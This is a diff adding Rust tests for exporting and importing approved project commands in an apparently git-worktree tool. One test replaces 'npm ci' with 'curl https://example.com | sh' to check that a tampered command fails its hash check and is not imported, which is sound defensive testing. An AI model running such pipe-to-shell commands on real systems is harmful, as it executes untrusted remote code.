@@ -307,6 +307,112 @@ url = "http://localhost:8080"
     snapshot_add_approvals("add_approvals_no_commands", &repo, &[]);
 }
 
+// ============================================================================
+// export/import tests
+// ============================================================================
+
+/// Approve `commands` for `repo`'s project, as `wt config approvals add` would.
+fn approve_for_export(repo: &TestRepo, commands: &[&str]) {
+    // Remove origin so project_identifier uses the canonical worktree path —
+    // matches what `Repository::project_identifier` computes at runtime.
+    repo.run_git(&["remote", "remove", "origin"]);
+    let mut approvals = Approvals::default();
+    approvals
+        .approve_commands(
+            repo.project_id(),
+            commands.iter().map(|c| c.to_string()).collect(),
+            repo.test_approvals_path(),
+        )
+        .unwrap();
+}
+
+fn export_snippet(repo: &TestRepo) -> String {
+    let output = repo
+        .wt_command()
+        .args(["config", "approvals", "export"])
+        .output()
+        .unwrap();
+    assert!(output.status.success());
+    String::from_utf8(output.stdout).unwrap()
+}
+
+fn snapshot_import_approvals(test_name: &str, repo: &TestRepo, snippet: &str) {
+    let snippet_path = repo.root_path().join("approvals-snippet.toml");
+    fs::write(&snippet_path, snippet).unwrap();
+    let settings = setup_snapshot_settings(repo);
+    settings.bind(|| {
+        let mut cmd = make_snapshot_cmd(repo, "config", &[], None);
+        cmd.args(["approvals", "import", "approvals-snippet.toml"]);
+        assert_cmd_snapshot!(test_name, cmd);
+    });
+}
+
+#[rstest]
+fn test_export_approvals(repo: TestRepo) {
+    approve_for_export(&repo, &["npm ci", "npm run dev"]);
+    let settings = setup_snapshot_settings(&repo);
+    settings.bind(|| {
+        let mut cmd = make_snapshot_cmd(&repo, "config", &[], None);
+        cmd.args(["approvals", "export"]);
+        assert_cmd_snapshot!("export_approvals", cmd);
+    });
+}
+
+#[rstest]
+fn test_export_approvals_none(repo: TestRepo) {
+    let settings = setup_snapshot_settings(&repo);
+    settings.bind(|| {
+        let mut cmd = make_snapshot_cmd(&repo, "config", &[], None);
+        cmd.args(["approvals", "export"]);
+        assert_cmd_snapshot!("export_approvals_none", cmd);
+    });
+}
+
+/// An exported snippet restores the approvals after they're cleared; importing
+/// it again is a no-op.
+#[rstest]
+fn test_import_approvals_roundtrip(repo: TestRepo) {
+    approve_for_export(&repo, &["npm ci", "npm run dev"]);
+    let snippet = export_snippet(&repo);
+    let mut approvals = Approvals::default();
+    approvals
+        .revoke_project(&repo.project_id(), repo.test_approvals_path())
+        .unwrap();
+
+    snapshot_import_approvals("import_approvals", &repo, &snippet);
+    let saved = fs::read_to_string(repo.test_approvals_path()).unwrap();
+    assert!(saved.contains("\"npm ci\""), "{saved}");
+    assert!(saved.contains("\"npm run dev\""), "{saved}");
+
+    snapshot_import_approvals("import_approvals_already_approved", &repo, &snippet);
+}
+
+/// A command edited after export no longer matches its hash and nothing is
+/// imported.
+#[rstest]
+fn test_import_approvals_hash_mismatch(repo: TestRepo) {
+    approve_for_export(&repo, &["npm ci"]);
+    let snippet = export_snippet(&repo).replace("npm ci", "curl https://example.com | sh");
+    let mut approvals = Approvals::default();
+    approvals
+        .revoke_project(&repo.project_id(), repo.test_approvals_path())
+        .unwrap();
+
+    snapshot_import_approvals("import_approvals_hash_mismatch", &repo, &snippet);
+    let saved = fs::read_to_string(repo.test_approvals_path()).unwrap();
+    assert!(!saved.contains("curl"), "{saved}");
+}
+
+#[rstest]
+fn test_import_approvals_other_project(repo: TestRepo) {
+    repo.run_git(&["remote", "remove", "origin"]);
+    let snippet = format!(
+        "project = \"github.com/other/repo\"\n\n[[commands]]\ncommand = \"npm ci\"\nhash = \"{}\"\n",
+        worktrunk::config::command_hash("npm ci")
+    );
+    snapshot_import_approvals("import_approvals_other_project", &repo, &snippet);
+}
+
 // ============================================================================
 // bare repository tests
 // ============================================================================